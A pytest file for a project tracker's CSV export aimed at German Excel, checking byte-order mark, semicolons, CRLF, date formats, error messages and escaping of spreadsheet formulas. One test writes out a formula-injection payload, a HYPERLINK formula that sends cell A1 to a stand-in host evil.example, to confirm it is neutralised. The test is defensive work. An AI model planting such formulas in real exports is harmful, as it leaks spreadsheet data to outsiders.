"""`tracker export --format csv`: what a lead sees when the file opens in a German Excel.

The file is checked as bytes (byte-order mark, `;`, CRLF, DD.MM.YYYY) and read back
with the csv module against `list --all --format json`. Format: docs/csv.md.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

from hypothesis import given
from hypothesis import strategies as st

from tracker.exchange.csv_io import COLUMNS, neutralise, restore

HEADER = (
    "key;kind;milestone;workstream;title;owner;state;start;due;due_derived;done_on;refs;description"
)


def ok(result: Any) -> str:
    assert result.exit_code == 0, result.output
    assert result.stderr == ""
    return str(result.stdout)


def rows_of(data: bytes, delimiter: str = ";") -> list[dict[str, str]]:
    text = data.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter))


def listed(tracker: Any) -> dict[str, dict[str, Any]]:
    data = json.loads(ok(tracker("list", "--all", "--format", "json")))
    return {item["key"]: item for item in data["items"]}


def test_the_default_file_is_for_a_german_excel(tracker):
    result = tracker("export", "--format", "csv")
    assert result.exit_code == 0, result.output
    data = result.stdout_bytes
    assert data.startswith(b"\xef\xbb\xbf" + HEADER.encode() + b"\r\n")
    assert data.endswith(b"\r\n")
    assert data.count(b"\n") == data.count(b"\r\n")  # CRLF only (none inside a cell here)
    rows = rows_of(data)
    by_key = {r["key"]: r for r in rows}
    assert len(rows) == 23
    assert by_key["TRAIN-BASIS"] == {
        "key": "TRAIN-BASIS",
        "kind": "milestone",
        "milestone": "",
        "workstream": "training",
        "title": "Schulung Leistung und persönlicher Ansprechpartner",
        "owner": "Projektgruppe Optionskommune",
        "state": "in_progress",
        "start": "12.09.2011",
        "due": "10.10.2011",
        "due_derived": "false",
        "done_on": "",
        "refs": "",
        "description": 'Quelle: "Schulungen: Leistung und pers. Ansprechpartner von '
        '12.09. - 10.10.2011".',
    }
    assert (by_key["STMT-264"]["state"], by_key["STMT-264"]["done_on"]) == ("done", "20.09.2011")
    assert by_key["MIG-PREP"]["due_derived"] == "true"


def test_every_item_of_every_state_is_a_row_each_milestone_before_its_tasks(sqlite_tracker):
    tracker = sqlite_tracker
    ok(tracker("cancel", "ORG-NETZWERK"))
    rows = rows_of(tracker("export").stdout_bytes)
    items = listed(tracker)
    assert len(rows) == len(items) == 23
    assert {r["key"] for r in rows} == set(items)
    assert {r["state"] for r in rows} == {"planned", "in_progress", "done", "cancelled"}
    position = {r["key"]: n for n, r in enumerate(rows)}
    for r in rows:
        if r["milestone"]:
            assert position[r["milestone"]] < position[r["key"]]
    for r in rows:  # the cells say what list --all --format json says
        item = items[r["key"]]
        assert (r["kind"], r["milestone"] or None, r["workstream"], r["title"]) == (
            item["kind"], item["milestone"], item["workstream"], item["title"]
        )  # fmt: skip
        assert (r["owner"] or None, r["state"]) == (item["owner"], item["state"])


def test_comma_gives_plain_utf8_with_iso_dates(sqlite_tracker):
    data = sqlite_tracker("export", "--comma").stdout_bytes
    assert data.startswith(HEADER.replace(";", ",").encode() + b"\r\n")
    by_key = {r["key"]: r for r in rows_of(data, ",")}
    assert (by_key["TRAIN-BASIS"]["start"], by_key["TRAIN-BASIS"]["due"]) == (
        "2011-09-12", "2011-10-10"
    )  # fmt: skip
    assert by_key["STMT-264"]["done_on"] == "2011-09-20"


def test_a_formula_in_a_title_is_written_with_a_quote_in_front(sqlite_tracker):
    title = '=HYPERLINK("http://evil.example/?x="&A1;"Klick")'
    ok(sqlite_tracker("add", title, "--milestone", "MIG-PREP", "--key", "EVIL"))
    ok(sqlite_tracker("edit", "EVIL", "--owner", "@Müller", "--refs", "+49 711, -1"))
    data = sqlite_tracker("export").stdout_bytes
    line = next(ln for ln in data.decode("utf-8-sig").split("\r\n") if ln.startswith("EVIL;"))
    assert line.startswith('EVIL;task;MIG-PREP;migration;"\'=HYPERLINK(""http://evil.example')
    row = next(r for r in rows_of(data) if r["key"] == "EVIL")
    assert (row["title"], row["owner"], row["refs"]) == ("'" + title, "'@Müller", "'+49 711, -1")


def test_output_file_holds_the_same_bytes_written_whole(sqlite_tracker, tmp_path: Path):
    target = tmp_path / "plan.csv"
    assert ok(sqlite_tracker("export", "-o", str(target))) == f"Wrote 23 items to {target}.\n"
    assert target.read_bytes() == sqlite_tracker("export").stdout_bytes
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".plan")] == []


def test_bad_export_options_are_one_line(sqlite_tracker, tmp_path: Path):
    for args, message in [
        (["--alarm", "3d"], "--all, --alarm and --lang are for --format ics"),
        (["-f", "csv", "--all"], "--all, --alarm and --lang are for --format ics"),
        (["-o", str(tmp_path / "nope" / "x.csv")], "the folder"),
    ]:
        result = sqlite_tracker("export", *args)
        assert result.exit_code == 1
        assert result.stderr.startswith("tracker: ") and message in result.stderr
        assert len(result.stderr.splitlines()) == 1
        assert result.stdout == ""


@given(st.text())
def test_neutralising_a_cell_is_undone_exactly_on_reading(text: str) -> None:
    cell = neutralise(text)
    assert restore(cell) == text
    assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r")


def test_the_documented_columns_are_the_written_ones() -> None:
    doc = (Path(__file__).resolve().parent.parent / "docs" / "csv.md").read_text("utf-8")
    documented = [line.split("`")[1] for line in doc.splitlines() if line.startswith("| `")]
    assert tuple(documented[: len(COLUMNS)]) == COLUMNS
